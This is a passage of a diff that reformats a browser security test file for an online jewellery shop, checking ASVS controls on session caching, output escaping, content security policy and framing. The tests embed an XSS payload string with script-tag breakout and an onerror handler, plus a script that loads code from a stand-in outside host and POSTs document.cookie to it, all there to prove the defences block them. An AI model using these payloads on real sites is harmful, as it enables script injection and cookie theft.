@@ -9,15 +9,45 @@ import { createTestUser } from './test-user.ts'
 const test = browserTest()
   /** One address of each kind of page, for visitors and signed-in users. */
   .extend('pagesOf', { scope: 'file' }, ({ shop }) => async (): Promise<string[]> => {
-    const { id } = await shop.context.db.reader.selectFrom('products').select('id').limit(1).executeTakeFirstOrThrow()
+    const { id } = await shop.context.db.reader
+      .selectFrom('products')
+      .select('id')
+      .limit(1)
+      .executeTakeFirstOrThrow()
     return [
-      '/', '/shop', '/shop?category=Rings&page=2', `/shop/${id}`, '/shop/category/Rings', '/gender/female', '/gifts', '/collection', '/search?query=ring', '/help',
-      '/legal-policy', '/contact-us', '/login', '/register', '/dashboard', '/dashboard/profile', '/dashboard/orders', '/dashboard/users', '/orders', '/payment-success', '/unauthorized', '/nothing-here',
+      '/',
+      '/shop',
+      '/shop?category=Rings&page=2',
+      `/shop/${id}`,
+      '/shop/category/Rings',
+      '/gender/female',
+      '/gifts',
+      '/collection',
+      '/search?query=ring',
+      '/help',
+      '/legal-policy',
+      '/contact-us',
+      '/login',
+      '/register',
+      '/dashboard',
+      '/dashboard/profile',
+      '/dashboard/orders',
+      '/dashboard/users',
+      '/orders',
+      '/payment-success',
+      '/unauthorized',
+      '/nothing-here',
     ]
   })
 
-test('SESS-03 every visitor gets identical pages without cookies (ASVS 14.2.2)', async ({ shop, pagesOf }) => {
-  const [{ token: shopper, user }, { token: admin }] = [await createTestUser(shop), await createTestUser(shop, { role: 'admin' })]
+test('SESS-03 every visitor gets identical pages without cookies (ASVS 14.2.2)', async ({
+  shop,
+  pagesOf,
+}) => {
+  const [{ token: shopper, user }, { token: admin }] = [
+    await createTestUser(shop),
+    await createTestUser(shop, { role: 'admin' }),
+  ]
   for (const path of await pagesOf()) {
     const read = async (headers: Record<string, string>) => {
       const response = await fetch(shop.address + path, { headers, redirect: 'manual' })
@@ -28,7 +58,15 @@ test('SESS-03 every visitor gets identical pages without cookies (ASVS 14.2.2)',
     const asSomebody = await read({ cookie: `session=${shopper}` })
     expect(asSomebody.includes(user.email) || asSomebody.includes(user.username)).toBe(false)
     expect([path, await read({})]).toEqual([path, asSomebody])
-    expect([path, await read({ cookie: `session=${admin}`, authorization: `Bearer ${admin}`, 'user-agent': 'other', 'accept-language': 'hi' })]).toEqual([path, asSomebody])
+    expect([
+      path,
+      await read({
+        cookie: `session=${admin}`,
+        authorization: `Bearer ${admin}`,
+        'user-agent': 'other',
+        'accept-language': 'hi',
+      }),
+    ]).toEqual([path, asSomebody])
   }
 })
 
@@ -40,17 +78,42 @@ test('every page allows only its own inline scripts by hash (ASVS 3.4.3)', async
   }
 })
 
-test('every page shows typed text as text and never runs it (ASVS 1.1.2, 1.2.1, 1.2.3, 1.3.1, 1.3.5, 3.2.2)', async ({ shop }) => {
+test('every page shows typed text as text and never runs it (ASVS 1.1.2, 1.2.1, 1.2.3, 1.3.1, 1.3.5, 3.2.2)', async ({
+  shop,
+}) => {
   const typed = `</script><script>window.smuggled = 1</script>"'><img src=x onerror="window.smuggled = 1">{{7*7}}<!--`
-  const id = await newProduct(shop, { name: `Tara ${typed}`, description: typed, image: await anyPicture(shop), isTrending: true })
-  await shop.context.db.transaction((tx) => saveReview(tx, { productId: id, userId: null, authorName: typed.slice(0, 60), rating: 5, comment: typed, verifiedBuyer: false }))
+  const id = await newProduct(shop, {
+    name: `Tara ${typed}`,
+    description: typed,
+    image: await anyPicture(shop),
+    isTrending: true,
+  })
+  await shop.context.db.transaction((tx) =>
+    saveReview(tx, {
+      productId: id,
+      userId: null,
+      authorName: typed.slice(0, 60),
+      rating: 5,
+      comment: typed,
+      verifiedBuyer: false,
+    }),
+  )
   const page = await shop.openPage({ expectedErrors: [/status of 404/] })
-  for (const path of [`/shop/${id}`, '/shop', '/', `/search?query=${encodeURIComponent(`Tara ${typed}`)}`, `/shop?category=${encodeURIComponent(typed)}`, `/${encodeURIComponent(typed)}`]) {
+  for (const path of [
+    `/shop/${id}`,
+    '/shop',
+    '/',
+    `/search?query=${encodeURIComponent(`Tara ${typed}`)}`,
+    `/shop?category=${encodeURIComponent(typed)}`,
+    `/${encodeURIComponent(typed)}`,
+  ]) {
     await visit(page, path)
     expect([path, await page.evaluate(() => 'smuggled' in window)]).toEqual([path, false])
   }
   await visit(page, `/shop/${id}`)
-  await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toContain('</script><script>')
+  await expect
+    .poll(() => page.getByRole('heading', { level: 1 }).textContent())
+    .toContain('</script><script>')
 })
 
 describe('the content policy in a real browser', () => {
@@ -60,11 +123,15 @@ describe('the content policy in a real browser', () => {
     const errors: string[] = []
     page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
     await act()
-    await expect.poll(() => errors.some((error) => error.startsWith('The content policy forbids this'))).toBe(true)
+    await expect
+      .poll(() => errors.some((error) => error.startsWith('The content policy forbids this')))
+      .toBe(true)
     return errors
   }
 
-  test('runs no script that somebody put into a page, and says so (ASVS 1.3.2, 1.3.7, 3.4.3)', async ({ shop }) => {
+  test('runs no script that somebody put into a page, and says so (ASVS 1.3.2, 1.3.7, 3.4.3)', async ({
+    shop,
+  }) => {
     const page = await shop.openPage({ path: '/help', ...forbidden })
     const errors = await errorsWhile(page, () =>
       page.evaluate(() => {
@@ -88,7 +155,9 @@ describe('the content policy in a real browser', () => {
         const script = document.createElement('script')
         script.src = 'https://elsewhere.example/x.js'
         document.body.append(script)
-        await fetch('https://elsewhere.example/', { method: 'POST', body: document.cookie }).catch(() => undefined)
+        await fetch('https://elsewhere.example/', { method: 'POST', body: document.cookie }).catch(
+          () => undefined,
+        )
       }),
     )
     expect(errors.join()).toMatch(/connect-src/)
@@ -96,11 +165,20 @@ describe('the content policy in a real browser', () => {
 
   test('is not shown in a frame of another page (ASVS 3.4.6)', async ({ shop }) => {
     const page = await shop.openPage({ expectedErrors: [/frame/i, /ERR_BLOCKED/] })
-    const other = (src: string) => ({ contentType: 'text/html', body: `<iframe src="${shop.address}${src}"></iframe>` })
-    await page.route('http://elsewhere.example/*', (route) => route.fulfill(other(new URL(route.request().url()).pathname)))
+    const other = (src: string) => ({
+      contentType: 'text/html',
+      body: `<iframe src="${shop.address}${src}"></iframe>`,
+    })
+    await page.route('http://elsewhere.example/*', (route) =>
+      route.fulfill(other(new URL(route.request().url()).pathname)),
+    )
     // Forwarded unchanged, so that only their headers can keep them out of the frame.
-    await page.route(`${shop.address}/help`, async (route) => route.fulfill({ response: await route.fetch() }))
-    await page.route(`${shop.address}/plain`, (route) => route.fulfill({ contentType: 'text/html', body: 'no policy' }))
+    await page.route(`${shop.address}/help`, async (route) =>
+      route.fulfill({ response: await route.fetch() }),
+    )
+    await page.route(`${shop.address}/plain`, (route) =>
+      route.fulfill({ contentType: 'text/html', body: 'no policy' }),
+    )
     const framed = async (path: string) => {
       await page.goto(`http://elsewhere.example${path}`)
       return () => page.frames()[1]?.url()
